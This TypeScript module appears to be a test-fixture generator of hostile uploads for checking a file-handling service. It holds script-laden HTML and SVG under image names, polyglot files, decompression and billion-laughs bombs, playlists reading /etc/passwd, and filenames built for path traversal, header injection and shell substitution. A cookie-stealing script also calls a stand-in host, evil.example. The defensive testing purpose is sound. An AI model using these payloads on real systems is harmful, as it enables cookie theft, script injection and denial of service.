// Files made to do harm: pages and scripts in disguise, files that are two things at once, bombs, ruins and evil names.
import { deflateSync } from "node:zlib";
import sharp from "sharp";

export interface HostileFile {
  what: string;
  name: string;
  claimedMime: string;
  content: Buffer;
  /** Claims so many pixels that it must not be unpacked. */
  isTooWide?: boolean;
}

const SCRIPT = "<script>fetch('https://evil.example/?'+document.cookie)</script>";
const HTML = `<!doctype html><html><body onload=alert(1)>${SCRIPT}</body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}<foreignObject>${HTML}</foreignObject></svg>`;

const latin1 = (text: string) => Buffer.from(text, "latin1");
const png = (width: number, height: number, body: Buffer = Buffer.alloc(0)) =>
  Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", Buffer.concat([uint32(width), uint32(height), Buffer.from([1, 0, 0, 0, 0])])),
    chunk("IDAT", body),
    chunk("IEND", Buffer.alloc(0)),
  ]);
const uint32 = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

function chunk(type: string, body: Buffer): Buffer {
  const named = Buffer.concat([latin1(type), body]);
  return Buffer.concat([uint32(body.length), named, uint32(crc32(named))]);
}

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return (crc ^ 0xffffffff) >>> 0;
}

const riff = (kind: string, body: Buffer) => {
  const length = Buffer.alloc(4);
  length.writeUInt32LE(body.length + 4);
  return Buffer.concat([latin1("RIFF"), length, latin1(kind), body]);
};
const ftyp = (brand: string) => Buffer.concat([uint32(20), latin1(`ftyp${brand}`), uint32(512), latin1("isom")]);

/** Pages and scripts, under names and claims of something harmless. */
function disguises(): HostileFile[] {
  const contents: [string, string][] = [
    ["a page", HTML],
    ["a drawing with a script", SVG],
    ["a drawing behind an XML head", `<?xml version="1.0"?><!DOCTYPE svg>${SVG}`],
    ["an XHTML page", `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>${SCRIPT}</body></html>`],
    ["a script", "alert(document.domain);//"],
    ["a page as mail", `MIME-Version: 1.0\nContent-Type: text/html\n\n${HTML}`],
    ["a style sheet", "body{background:url(javascript:alert(1))}"],
  ];
  const names: [string, string][] = [
    ["page.html", "text/html"],
    ["photo.png", "image/png"],
    ["drawing.svg", "image/svg+xml"],
    ["clip.mp4", "video/mp4"],
  ];
  return contents.flatMap(([what, text]) =>
    names.map(([name, claimedMime]) => ({ what: `${what} as ${name}`, name, claimedMime, content: Buffer.from(text) })),
  );
}

/** Begin as one thing and go on as another. */
function polyglots(photo: Buffer): HostileFile[] {
  const html = latin1(HTML);
  const files: [string, string, string, Buffer][] = [
    ["a GIF that is a script", "a.gif", "image/gif", latin1("GIF89a=1;alert(1)//")],
    ["a GIF that is a page", "b.gif", "text/html", Buffer.concat([latin1("GIF89a\u0001\u0000\u0001\u0000"), html])],
    ["a photo with a page in its comment", "c.jpg", "image/jpeg", withComment(photo, html)],
    ["a photo followed by a page", "d.jpg", "text/html", Buffer.concat([photo, html])],
    [
      "a photo followed by an archive",
      "e.jpg",
      "application/zip",
      Buffer.concat([photo, latin1("PK\u0003\u0004evil")]),
    ],
    ["an archive that is a page", "f.zip", "application/zip", Buffer.concat([latin1("PK\u0003\u0004"), html])],
    ["a PDF that is a page", "g.pdf", "text/html", Buffer.concat([latin1("%PDF-1.4\n"), html])],
    [
      "a PDF with a script",
      "h.pdf",
      "application/pdf",
      latin1("%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"),
    ],
    ["a page before a PDF", "i.pdf", "application/pdf", Buffer.concat([html, latin1("%PDF-1.4")])],
    ["a WebP that is a page", "j.webp", "image/webp", riff("WEBP", html)],
    ["a WAV that is a page", "k.wav", "audio/wav", riff("WAVE", html)],
    ["an MP4 that is a page", "l.mp4", "video/mp4", Buffer.concat([ftyp("isom"), html])],
    ["an Ogg that is a page", "m.ogg", "audio/ogg", Buffer.concat([latin1("OggS"), html])],
    ["an MP3 that is a page", "n.mp3", "audio/mpeg", Buffer.concat([latin1("ID3\u0004"), html])],
    [
      "a WebM that is a page",
      "o.webm",
      "video/webm",
      Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3]), latin1("webm"), html]),
    ],
    ["a PNG followed by a page", "p.png", "text/html", Buffer.concat([png(1, 1, deflateSync(Buffer.alloc(2))), html])],
    [
      "a page in UTF-16",
      "q.txt",
      "text/plain",
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(HTML, "utf16le")]),
    ],
    ["a page behind a byte order mark", "r.txt", "text/plain", Buffer.from(`\uFEFF${HTML}`)],
    ["a page in UTF-7", "s.txt", "text/html; charset=utf-7", latin1("+ADw-script+AD4-alert(1)+ADw-/script+AD4-")],
    ["a playlist as film", "t.mp4", "video/mp4", latin1("#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n")],
    ["a list of files as sound", "u.mp3", "audio/mpeg", latin1("ffconcat version 1.0\nfile /etc/passwd\n")],
    [
      "a playlist inside an MP4",
      "v.mp4",
      "video/mp4",
      Buffer.concat([ftyp("isom"), latin1("#EXTM3U\nfile:///etc/passwd")]),
    ],
  ];
  return files.map(([what, name, claimedMime, content]) => ({ what, name, claimedMime, content }));
}

function withComment(photo: Buffer, comment: Buffer): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(comment.length + 2);
  return Buffer.concat([photo.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, comment, photo.subarray(2)]);
}

/** Small here, huge once unpacked, or so they claim. */
function bombs(): HostileFile[] {
  const rows = deflateSync(Buffer.alloc((12_000 / 8 + 1) * 12_000));
  const wide = Buffer.from([0x0a, 0, 0, 0, 0xfe, 0x3f, 0, 0xfe, 0x3f, 0]);
  const length = Buffer.alloc(4);
  length.writeUInt32LE(10);
  const gifFrame = Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0]);
  const gif = (width: number, height: number, frames: number) =>
    Buffer.concat([
      latin1("GIF89a"),
      Buffer.from([width & 255, width >> 8, height & 255, height >> 8, 0x80, 0, 0, 0, 0, 0, 255, 255, 255]),
      ...Array.from({ length: frames }, () => gifFrame),
      Buffer.from([0x3b]),
    ]);
  const packed = deflateSync(Buffer.alloc(64 * 1024 * 1024));
  const files: [string, string, string, Buffer][] = [
    ["a PNG that claims four billion pixels", "a.png", "image/png", png(65_000, 65_000)],
    ["a PNG of 144 million pixels", "b.png", "image/png", png(12_000, 12_000, rows)],
    ["a photo that claims the largest size", "c.jpg", "image/jpeg", hugeJpeg()],
    ["a GIF with a huge screen", "d.gif", "image/gif", gif(65_535, 65_535, 1)],
    ["a GIF with ten thousand pictures", "e.gif", "image/gif", gif(2_000, 2_000, 10_000)],
    ["a WebP with a huge canvas", "f.webp", "image/webp", riff("WEBP", Buffer.concat([latin1("VP8X"), length, wide]))],
    [
      "a PDF with a packed bomb",
      "g.pdf",
      "application/pdf",
      Buffer.concat([latin1("%PDF-1.5\n1 0 obj<</Type/ObjStm>>stream\n"), packed, latin1("\nendstream")]),
    ],
    ["a WAV of a claimed day", "h.wav", "audio/wav", wav(0xffffff00)],
    ["a drawing that repeats itself", "i.svg", "image/svg+xml", Buffer.from(laughs())],
    ["an archive within limits", "j.zip", "application/zip", Buffer.concat([latin1("PK\u0003\u0004"), packed])],
  ];
  return files.map(([what, name, claimedMime, content]) => ({
    what,
    name,
    claimedMime,
    content,
    isTooWide: /pixels|largest size|huge canvas/.test(what),
  }));
}

function hugeJpeg(): Buffer {
  const sof = Buffer.from([0xff, 0xc0, 0, 11, 8, 0xff, 0xff, 0xff, 0xff, 1, 1, 0x11, 0]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), sof, Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0, 0, 0])]);
}

function wav(claimed: number): Buffer {
  const head = Buffer.alloc(44);
  head.write("RIFF", 0, "latin1");
  head.writeUInt32LE(claimed, 4);
  head.write("WAVEfmt ", 8, "latin1");
  head.writeUInt32LE(16, 16);
  head.writeUInt16LE(1, 20);
  head.writeUInt16LE(1, 22);
  head.writeUInt32LE(8_000, 24);
  head.writeUInt32LE(16_000, 28);
  head.writeUInt16LE(2, 32);
  head.writeUInt16LE(16, 34);
  head.write("data", 36, "latin1");
  head.writeUInt32LE(claimed, 40);
  return Buffer.concat([head, Buffer.alloc(1_600)]);
}

function laughs(): string {
  const entities = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join("");
  return `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">${entities}]><svg>&l9;</svg>`;
}

/** Cut off, or never anything. */
function ruins(whole: readonly (readonly [string, Buffer])[]): HostileFile[] {
  const cut = whole.map(([name, content]) => ({
    what: `half of ${name}`,
    name,
    claimedMime: "application/octet-stream",
    content: content.subarray(0, Math.ceil(content.length / 2)),
  }));
  const noise = Buffer.from(Array.from({ length: 4_000 }, (_, index) => (index * 7919 + (index >> 3)) & 255));
  const nothing: [string, Buffer][] = [
    ["one byte", Buffer.from([0])],
    ["zeros", Buffer.alloc(3_000)],
    ["noise", noise],
    ["a name of a format and nothing more", latin1("OggS")],
  ];
  return [
    ...cut,
    ...nothing.map(([what, content]) => ({ what, name: "file.bin", claimedMime: "application/octet-stream", content })),
  ];
}

/** Harmless content under names that are paths, commands or lies. */
function names(photo: Buffer): HostileFile[] {
  const evil = [
    "../../../etc/passwd",
    "..\\..\\windows\\system32\\evil.png",
    "/etc/cron.d/evil",
    "C:\\evil.png",
    "photo\u202Egnp.exe",
    "a\u200B\u200Bb\u00ADc.png",
    `${"x".repeat(5_000)}.png`,
    `${"é".repeat(300)}.png`,
    "..",
    ".",
    "",
    "con.png",
    'a"; filename="b.html',
    "a\r\nset-cookie: evil=1.png",
    "photo.jpg.exe",
    "photo.png.html",
    "%2e%2e%2fevil.png",
    "a;b=c.png",
    "\u{1F600}\u{1F468}\u200D\u{1F469}.png",
    "a\u2215b\uFF0Fc.png",
    "-rf.png",
    "$(id)`id`.png",
  ];
  return evil.map((name) => ({
    what: `the name ${name.slice(0, 40)}`,
    name,
    claimedMime: "image/jpeg",
    content: photo,
  }));
}

export async function hostileFiles(samples: readonly (readonly [string, Buffer])[]): Promise<HostileFile[]> {
  const plain = sharp({ create: { width: 40, height: 20, channels: 3, background: "red" } }).jpeg();
  const photo = await plain.toBuffer();
  const noted = await sharp(photo)
    .withExif({ IFD0: { ImageDescription: SCRIPT, Orientation: "6" } })
    .jpeg()
    .toBuffer();
  return [
    ...disguises(),
    ...polyglots(photo),
    ...bombs(),
    ...ruins(samples),
    ...names(photo),
    { what: "a photo with a script in its notes", name: "n.jpg", claimedMime: "image/jpeg", content: noted },
  ];
}
